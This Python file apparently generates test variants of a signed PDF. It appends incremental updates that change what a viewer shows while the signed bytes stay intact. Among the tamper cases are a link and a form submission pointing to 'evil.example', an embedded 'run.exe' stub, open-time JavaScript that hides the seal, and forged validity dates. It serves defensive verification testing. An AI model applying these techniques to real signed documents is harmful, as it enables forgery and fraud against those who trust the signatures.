"""Incremental updates: what a viewer shows is changed behind the signed bytes, which stay as they were."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Stream, String

from .variant import Variants, World

VARIANTS = Variants()


class Update:
    """Objects of a file changed in memory, and written behind it as one more revision."""

    def __init__(self, pdf: bytes) -> None:
        self.base = pdf
        self.document = pikepdf.open(BytesIO(pdf))
        self.changed: dict[int, Object] = {}
        self.trailer = b""

    @property
    def root(self) -> Object:
        return self.document.Root

    @property
    def page(self) -> Object:
        return self.document.pages[0].obj

    @property
    def xobjects(self) -> Object:
        return self.page.Resources.XObject

    @property
    def field(self) -> Object:
        return self.root.AcroForm.Fields[0]

    def keep(self, *objects: Object) -> None:
        """Each indirect object that shall be written anew."""
        for item in objects:
            number, _ = item.objgen
            assert number, "only an indirect object can be replaced"
            self.changed[number] = item

    def add(self, item: Object) -> Object:
        item = self.document.make_indirect(item)
        self.keep(item)
        return item

    def stream(self, content: bytes, **entries: object) -> Object:
        return self.add(Stream(self.document, content, **entries))

    def written(self) -> bytes:
        target = BytesIO()
        target.write(self.base)
        target.write(b"" if self.base.endswith(b"\n") else b"\n")
        rows = []
        for number, item in sorted(self.changed.items()):
            rows.append(b"%d 1\n%010d 00000 n \n" % (number, target.tell()))
            target.write(b"%d 0 obj\n%s\nendobj\n" % (number, _written(item)))
        table = target.tell()
        target.write(b"xref\n0 1\n0000000000 65535 f \n" + b"".join(rows))
        size = max([*self.changed, int(self.document.trailer.Size) - 1]) + 1
        root = b"%d 0 R" % self.root.objgen[0]
        previous = int(self.base.rsplit(b"startxref", 1)[1].split()[0])
        entries = b"/Size %d /Root %s /Prev %d %s" % (size, root, previous, self.trailer)
        target.write(b"trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (entries, table))
        return target.getvalue()


def _written(item: Object) -> bytes:
    if not isinstance(item, Stream):
        return item.unparse(resolved=True)
    raw = item.read_raw_bytes()
    entries = Dictionary(item.stream_dict)
    entries.Length = len(raw)
    return entries.unparse(resolved=True) + b"\nstream\n" + raw + b"\nendstream"


def _appearance(update: Update, text: str) -> Object:
    content = f"BT /F1 20 Tf 0 0 Td ({text}) Tj ET".encode()
    box = Array([0, 0, 300, 40])
    return update.stream(
        content, Type=Name.XObject, Subtype=Name.Form, BBox=box, Resources=Dictionary(Font=update.page.Resources.Font)
    )


def _annotate(update: Update, **entries: object) -> None:
    note = update.add(Dictionary(Type=Name.Annot, Rect=[100, 400, 400, 440], F=4, P=update.page, **entries))
    update.page.Annots.append(note)
    update.keep(update.page)


def change(name: str, expected: str = "altered") -> Callable[[Callable[[Update], None]], None]:
    def keep(mend: Callable[[Update], None]) -> None:
        def make(world: World) -> bytes:
            update = Update(world.signed)
            mend(update)
            return update.written()

        VARIANTS.put(f"update: {name}", expected, make)

    return keep


@change("nothing at all")
def _(update: Update) -> None:
    pass


@change("only the catalogue, unchanged")
def _(update: Update) -> None:
    update.keep(update.root)


@change("the text of the page")
def _(update: Update) -> None:
    content = update.page.Contents.read_bytes() + b"\nBT /F3 30 Tf 100 400 Td (2099) Tj ET"
    update.page.Contents = update.stream(content)
    update.keep(update.page)


@change("the stream of the page under its own number")
def _(update: Update) -> None:
    update.page.Contents.write(b"BT /F3 30 Tf 100 400 Td (2099) Tj ET")
    update.keep(update.page.Contents)


@change("a note with free text")
def _(update: Update) -> None:
    _annotate(
        update,
        Subtype=Name.FreeText,
        Contents=String("有效期至2099年"),
        DA=String("/Helv 20 Tf 0 g"),
        AP=Dictionary(N=_appearance(update, "2099")),
    )


@change("a stamp")
def _(update: Update) -> None:
    _annotate(update, Subtype=Name.Stamp, Name=Name.Approved, AP=Dictionary(N=_appearance(update, "APPROVED")))


@change("a redaction that hides the holder")
def _(update: Update) -> None:
    _annotate(update, Subtype=Name.Redact, OverlayText=String("x"), AP=Dictionary(N=_appearance(update, "")))


@change("a link over the whole page")
def _(update: Update) -> None:
    _annotate(update, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://evil.example/")))


@change("an appearance for the seal's field")
def _(update: Update) -> None:
    update.field.AP = Dictionary(N=_appearance(update, "OK"))
    update.field.Rect = Array([100, 400, 400, 440])
    update.keep(update.field)


@change("another seal")
def _(update: Update) -> None:
    update.xobjects["/Seal"].write(b"1 0 0 rg 0 0 1 1 re f")
    update.keep(update.xobjects["/Seal"])


@change("another photograph")
def _(update: Update) -> None:
    photo = update.xobjects["/Photo"]
    photo.write(bytes(3) * (295 * 413))
    update.keep(photo)


@change("another font program")
def _(update: Update) -> None:
    fonts = update.page.Resources.Font
    fonts["/F3"].FontDescriptor.FontFile2.write(fonts["/F1"].FontDescriptor.FontFile2.read_bytes())
    update.keep(fonts["/F3"].FontDescriptor.FontFile2)


@change("other text for copying out (ToUnicode)")
def _(update: Update) -> None:
    table = update.page.Resources.Font["/F3"].ToUnicode
    table.write(table.read_bytes().replace(b"0032", b"0039"))
    update.keep(table)


@change("the widths of a font")
def _(update: Update) -> None:
    font = update.page.Resources.Font["/F3"]
    font.Widths = Array([0] * len(font.Widths))
    update.keep(font)


@change("the data attached")
def _(update: Update) -> None:
    file = update.root.AF[0].EF.F
    file.write(b'{"number": "1", "valid_to": "2099-01-01"}')
    update.keep(file)


@change("one more file attached")
def _(update: Update) -> None:
    file = update.stream(b"MZ", Type=Name.EmbeddedFile)
    update.root.AF.append(update.add(Dictionary(Type=Name.Filespec, F=String("run.exe"), EF=Dictionary(F=file))))
    update.keep(update.root)


@change("a script that runs when opened")
def _(update: Update) -> None:
    update.root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("this.getField('Seal').hidden = true"))
    update.keep(update.root)


@change("a form to be submitted elsewhere")
def _(update: Update) -> None:
    update.page.AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))
    update.keep(update.page)


@change("a field for text")
def _(update: Update) -> None:
    form = update.root.AcroForm
    form.Fields.append(
        update.add(
            Dictionary(
                FT=Name.Tx,
                T=String("valid"),
                V=String("2099"),
                Type=Name.Annot,
                Subtype=Name.Widget,
                Rect=[100, 400, 400, 440],
                P=update.page,
            )
        )
    )
    update.keep(form)


@change("the form with the request to draw appearances anew")
def _(update: Update) -> None:
    update.root.AcroForm.NeedAppearances = True
    update.keep(update.root.AcroForm)


@change("one more page")
def _(update: Update) -> None:
    page = update.add(
        Dictionary(
            Type=Name.Page, Parent=update.root.Pages, MediaBox=[0, 0, 595, 842], Contents=update.stream(b"BT ET")
        )
    )
    update.root.Pages.Kids.append(page)
    update.root.Pages.Count = 2
    update.keep(update.root.Pages)


@change("the page replaced by another")
def _(update: Update) -> None:
    page = update.add(
        Dictionary(
            Type=Name.Page, Parent=update.root.Pages, MediaBox=[0, 0, 595, 842], Contents=update.stream(b"BT ET")
        )
    )
    update.root.Pages.Kids = Array([page])
    update.keep(update.root.Pages)


@change("the page cropped")
def _(update: Update) -> None:
    update.page.CropBox = Array([0, 0, 595, 400])
    update.keep(update.page)


@change("the page turned")
def _(update: Update) -> None:
    update.page.Rotate = 180
    update.keep(update.page)


@change("certificates of an attacker in the security store")
def _(update: Update) -> None:
    update.root.DSS.Certs.append(update.stream(b"0\x82"))
    update.keep(update.root.DSS)


@change("the security store removed")
def _(update: Update) -> None:
    del update.root.DSS
    update.keep(update.root)


@change("layers that hide the text")
def _(update: Update) -> None:
    layer = update.add(Dictionary(Type=Name.OCG, Name=String("x")))
    update.root.OCProperties = Dictionary(OCGs=[layer], D=Dictionary(OFF=[layer]))
    update.xobjects["/Seal"].OC = layer
    update.keep(update.root, update.xobjects["/Seal"])


@change("a title and other file information")
def _(update: Update) -> None:
    update.document.docinfo["/Title"] = String("有效期至2099年")
    update.keep(update.document.docinfo)
    update.trailer = b"/Info %d 0 R" % update.document.docinfo.objgen[0]


@change("the XMP metadata")
def _(update: Update) -> None:
    update.root.Metadata.write(b"<x/>")
    update.keep(update.root.Metadata)


@change("the page's own object freed", "altered")
def _(update: Update) -> None:
    update.keep(update.add(Dictionary()))
    update.root.Pages = update.changed[max(update.changed)]
    update.keep(update.root)


@change("encryption", "unreadable")
def _(update: Update) -> None:
    rules = update.add(Dictionary(Filter=Name.Standard, V=1, R=2, O=String("o" * 32), U=String("u" * 32), P=-4))
    update.trailer = b"/Encrypt %d 0 R /ID [<00><00>]" % rules.objgen[0]
